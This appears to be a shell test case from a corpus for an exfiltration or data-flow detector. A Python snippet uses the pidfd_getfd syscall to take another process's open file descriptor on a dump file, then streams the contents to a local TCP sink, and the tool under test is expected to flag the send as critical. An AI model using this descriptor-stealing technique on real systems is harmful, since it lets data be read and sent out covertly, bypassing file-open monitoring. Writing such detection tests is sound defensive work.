#!/bin/bash
# B-pidfd-getfd: a process takes the open descriptor of another by pidfd_getfd, and sends.
# flow: the sender reads the dump but never opens it.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
bg python3 -c 'import sys, time
dump = open(sys.argv[1], "rb")
time.sleep(20)' "$D"
sleep .5
python3 - "$LAST" "$SINK" "$PORT" "$D" <<'END' || skip "pidfd_getfd is refused"
import ctypes, os, socket, sys
PIDFD_GETFD = 438
holder, folder = int(sys.argv[1]), f"/proc/{sys.argv[1]}/fd"
number = next(int(fd) for fd in os.listdir(folder) if os.readlink(f"{folder}/{fd}") == sys.argv[4])
taken = ctypes.CDLL(None).syscall(PIDFD_GETFD, os.pidfd_open(holder), number, 0)
if taken < 0:
    sys.exit(1)
sink = socket.create_connection((sys.argv[2], int(sys.argv[3])))
while part := os.read(taken, 65536):
    sink.sendall(part)
END
sunk
